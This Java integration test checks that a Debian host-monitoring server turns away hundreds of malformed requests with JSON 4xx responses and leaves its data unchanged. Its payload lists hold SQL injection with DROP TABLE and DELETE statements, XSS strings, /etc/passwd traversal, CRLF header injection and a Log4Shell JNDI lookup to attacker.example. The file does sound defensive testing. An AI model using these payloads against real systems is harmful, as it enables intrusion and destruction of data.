package io.debmonitor.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.Before;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Hundreds of malformed or malicious requests across every endpoint: each gets a 4xx (never a
 * 5xx) and every table is byte-for-byte what it was before. Sent with a host-proxy identity, so
 * the payloads get past authorization and exercise the parser and validation.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class HostileInputIT extends ItestSupport {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String HOST = "hostile.itest.example.org";
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; DROP TABLE host; --", "<script>alert(1)</script>",
            "../../../../etc/passwd", "${jndi:ldap://attacker.example/x}", "{{7*7}}", "%00%0a", "\\u0000", "Robert'); DELETE FROM package;--",
            "<img src=x onerror=alert(1)>");

    /**
     * @param jettyLevel Jetty itself rejects the URI (ambiguous encoded separators, NUL) before any
     *                   servlet runs, with its own 400 page rather than our JSON
     */
    private record Hostile(String method, String path, byte[] body, String why, boolean jettyLevel) {
        Hostile(String method, String path, byte[] body, String why) {
            this(method, path, body, why, false);
        }
    }

    @Before
    public void ready() throws Exception {
        awaitServer();
    }

    @Test
    public void hostileRequestsGet4xxAndChangeNothing() throws Exception {
        assertEquals(201, send("POST", "/hosts/" + HOST + "/update", bytes(valid().toString())).statusCode());
        List<String> before = dump();
        List<Hostile> requests = hostileRequests();
        assertTrue("only " + requests.size(), requests.size() >= 200);
        Map<String, String> failures = new LinkedHashMap<>();
        for (Hostile hostile : requests) {
            HttpResponse<String> response = send(hostile.method(), hostile.path(), hostile.body());
            int status = response.statusCode();
            String type = response.headers().firstValue("Content-Type").orElse("");
            boolean json = type.startsWith("application/json") || (hostile.jettyLevel() && status == 400);
            if (status < 400 || status >= 500 || !json) {
                failures.put(hostile.why(), status + " " + type + " " + response.body());
            }
        }
        assertEquals("requests that did not get a JSON 4xx", Map.of(), failures);
        assertEquals(before, dump());
    }

    /** The same strings inside an acceptable report are stored verbatim: SQL is parameterised, nothing is interpreted. */
    @Test
    public void injectionStringsInAValidReportAreStoredVerbatim() throws Exception {
        String host = uniqueHost();
        ObjectNode report = valid();
        report.put("hostname", host);
        report.putArray("upgradable");
        ArrayNode installed = report.putArray("installed");
        for (String injection : INJECTIONS) {
            installed.addObject().put("name", injection).put("version", injection).put("source", injection);
        }
        assertEquals(201, send("POST", "/hosts/" + host + "/update", bytes(report.toString())).statusCode());
        List<String> expected = new ArrayList<>();
        for (String injection : INJECTIONS) {
            expected.add(injection + ":" + injection);
        }
        expected.sort(null);
        List<String> stored = rows(host);
        stored.sort(null);
        assertEquals(expected, stored);
    }

    private static ObjectNode valid() {
        ObjectNode report = NODES.objectNode();
        report.put("api_version", "v1").put("os", "Debian 12").put("update_type", "full").put("hostname", HOST);
        report.putObject("running_kernel").put("version", "#1 SMP").put("release", "6.1.0");
        report.putArray("installed").addObject().put("name", "a").put("version", "1").put("source", "a").put("source_version", "1");
        report.putArray("uninstalled").addObject().put("name", "gone");
        report.putArray("upgradable").addObject().put("name", "a").put("version_from", "1").put("version_to", "2")
                .put("source", "a").put("source_version", "2").put("type", "security");
        return report;
    }

    private static List<Hostile> hostileRequests() throws Exception {
        String update = "/hosts/" + HOST + "/update";
        List<Hostile> list = new ArrayList<>();

        // Every string field, replaced by every kind of invalid value.
        List<String> fields = List.of("api_version", "hostname", "os", "update_type", "running_kernel.version", "running_kernel.release",
                "installed.0.name", "installed.0.version", "installed.0.source", "installed.0.source_version", "uninstalled.0.name",
                "upgradable.0.name", "upgradable.0.version_from", "upgradable.0.version_to", "upgradable.0.source",
                "upgradable.0.source_version", "upgradable.0.type");
        Map<String, JsonNode> invalid = new LinkedHashMap<>();
        invalid.put("null", NODES.nullNode());
        invalid.put("number", NODES.numberNode(123));
        invalid.put("boolean", NODES.booleanNode(true));
        invalid.put("array", NODES.arrayNode().add("x"));
        invalid.put("object", NODES.objectNode().put("x", "y"));
        invalid.put("empty", NODES.textNode(""));
        invalid.put("256 characters", NODES.textNode("x".repeat(256)));
        invalid.put("NUL", NODES.textNode("a\u0000b"));
        invalid.put("newline", NODES.textNode("a\nb"));
        invalid.put("DEL", NODES.textNode("a\u007fb"));
        invalid.put("escape sequence", NODES.textNode("\u001b[31mred"));
        for (String field : fields) {
            for (Map.Entry<String, JsonNode> value : invalid.entrySet()) {
                if (field.endsWith(".type") && value.getKey().equals("empty")) {
                    continue; // an empty type is valid: no type
                }
                ObjectNode report = valid();
                set(report, field, value.getValue());
                list.add(new Hostile("POST", update, bytes(report.toString()), field + " = " + value.getKey()));
            }
        }

        // Injection strings in every field, with a bad item at the very end: nothing may be written.
        for (String injection : INJECTIONS) {
            ObjectNode report = valid();
            for (String field : fields) {
                if (!field.equals("hostname") && !field.equals("os") && !field.equals("update_type") && !field.equals("api_version")) {
                    set(report, field, NODES.textNode(injection));
                }
            }
            ((ArrayNode) report.get("upgradable")).addObject().put("name", injection).put("version_from", injection).put("version_to", 7);
            list.add(new Hostile("POST", update, bytes(report.toString()), "injection then a bad item: " + injection));
            ObjectNode renamed = valid();
            renamed.put("hostname", injection);
            list.add(new Hostile("POST", update, bytes(renamed.toString()), "hostname " + injection));
            ObjectNode badOs = valid();
            badOs.put("os", "Debian 12" + injection);
            list.add(new Hostile("POST", update, bytes(badOs.toString()), "os " + injection));
        }

        // Wrong shapes.
        for (String key : List.of("installed", "uninstalled", "upgradable", "running_kernel")) {
            for (JsonNode shape : List.of(NODES.textNode("x"), NODES.numberNode(1), NODES.arrayNode().add(1), NODES.arrayNode().add(NODES.arrayNode()))) {
                ObjectNode report = valid();
                report.set(key, shape);
                list.add(new Hostile("POST", update, bytes(report.toString()), key + " shaped " + shape));
            }
        }

        // Bodies that are not JSON, not UTF-8, too deep or too big.
        List<byte[]> bodies = new ArrayList<>(List.of(bytes("{}x"), bytes("{\"a\":1}{\"b\":2}"), bytes("/* c */ {}"), bytes("{'os':'Debian'}"),
                bytes("{os:\"Debian\"}"), bytes("{\"n\":NaN}"), bytes("{\"n\":1e999999999}"), bytes("\uFEFF{\"x\":"), bytes("null"),
                bytes("true"), bytes("12"), bytes("[" + "{}".repeat(1) + "]"), bytes("{".repeat(100_000)), bytes("[".repeat(100_000)),
                bytes("{\"a\":".repeat(3000) + "1" + "}".repeat(3000)),
                new byte[] {(byte) 0xC0, (byte) 0x80}, new byte[] {'{', '"', (byte) 0x80, '"', ':', '1', '}'},
                new byte[] {'{', '"', (byte) 0xE2, (byte) 0x82, '"', ':', '1', '}'},
                new byte[] {'{', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', ':', '1', '}'},
                new byte[] {'{', '"', (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80, '"', ':', '1', '}'},
                "{\"hostname\":\"x\"}".getBytes(StandardCharsets.UTF_16), new byte[] {0, 0, 0, 0}, new byte[0], bytes(" "),
                new byte[16 * 1024 * 1024 + 10]));
        ObjectNode many = valid();
        ArrayNode items = many.putArray("installed");
        for (int i = 0; i < 20_000; i++) {
            items.addObject().put("name", "p" + i).put("version", "1").put("source", "s");
        }
        items.addObject().put("name", "last").put("version", false).put("source", "s");
        bodies.add(bytes(many.toString()));
        for (int i = 0; i < bodies.size(); i++) {
            list.add(new Hostile("POST", update, bodies.get(i), "body #" + i));
        }

        // Hostile paths and methods on every endpoint.
        List<String> names = List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a%00b", "%3Cscript%3Ealert(1)%3C%2Fscript%3E%20", "'%20OR%201=1",
                "a%0D%0ASet-Cookie:%20x=1", "x".repeat(300), "%C0%AE%C0%AE", "a%09b", "%E2%80%A8x", "a%2Fb");
        for (String name : names) {
            boolean jettyLevel = name.contains("%2F") || name.contains("%00");
            list.add(new Hostile("POST", "/hosts/" + name + "/update", bytes(valid().toString()), "POST name " + name, jettyLevel));
            list.add(new Hostile("DELETE", "/hosts/" + name, null, "DELETE name " + name, jettyLevel));
        }
        for (String method : List.of("PUT", "PATCH")) {
            list.add(new Hostile(method, update, bytes(valid().toString()), method + " update"));
            list.add(new Hostile(method, "/hosts/" + HOST, bytes("{}"), method + " host"));
            list.add(new Hostile(method, "/auth-check", bytes("{}"), method + " auth-check"));
        }
        list.add(new Hostile("GET", update, null, "GET update"));
        list.add(new Hostile("POST", "/auth-check", bytes("{}"), "POST auth-check"));
        list.add(new Hostile("DELETE", "/auth-check", null, "DELETE auth-check"));
        list.add(new Hostile("POST", "/hosts/" + HOST, bytes(valid().toString()), "POST without /update"));
        list.add(new Hostile("POST", "/" + "..%2Fhosts/" + HOST + "/update", bytes(valid().toString()), "encoded traversal collection", true));
        list.add(new Hostile("POST", "/images%00/" + HOST + "/update", bytes(valid().toString()), "NUL in collection", true));
        list.add(new Hostile("DELETE", "/nosuch/" + HOST, null, "DELETE unknown collection"));
        list.add(new Hostile("DELETE", "/hosts/never-reported.example.org", null, "DELETE unknown host"));
        return list;
    }

    /** Sets a dotted path such as {@code installed.0.name} in the report. */
    private static void set(ObjectNode report, String path, JsonNode value) {
        String[] parts = path.split("\\.");
        JsonNode node = report;
        for (int i = 0; i < parts.length - 1; i++) {
            node = parts[i].matches("\\d+") ? node.get(Integer.parseInt(parts[i])) : node.get(parts[i]);
        }
        ((ObjectNode) node).set(parts[parts.length - 1], value);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
